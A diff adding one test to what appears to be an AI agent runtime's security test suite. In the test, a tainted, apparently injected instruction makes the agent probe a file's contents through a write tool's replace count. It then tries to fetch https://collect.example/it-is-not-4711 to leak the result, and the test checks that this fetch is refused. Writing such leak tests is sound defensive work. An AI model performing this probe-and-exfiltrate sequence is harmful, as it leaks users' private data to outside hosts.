@@ -320,6 +320,20 @@ async def test_a_tool_that_finds_by_words_reads_private_data(house: LivingHouse,
         )
 
 
+async def test_a_check_that_tells_what_a_file_has_closes_the_way_out(
+    house: LivingHouse, scripted: ScriptedServer
+) -> None:
+    guess = Use("file_write", {"path": "letter.txt", "text": "x", "replace": "4711"}, is_blind=True)
+    out = Use("http_fetch", {"url": "https://collect.example/it-is-not-4711"}, is_blind=True)
+    scripted.rules.insert(0, rule("^tidy up", guess, out, "Done."))
+    cid = await house.conversation()
+    turn = await house.say(cid, "tidy up", is_tainted=True)
+    results = [event.payload["text"] for event in await house.events(cid, "tool.result")]
+    assert "0 times" in results[0]
+    assert "Refused: this turn has read" in results[1]
+    assert (await house.cortex.runtime.db.repository(TurnsRepository, house.admin.id).get(turn)).has_read_private
+
+
 async def test_an_answer_about_outside_text_read_in_another_chat_is_from_outside(
     house: LivingHouse, scripted: ScriptedServer
 ) -> None:
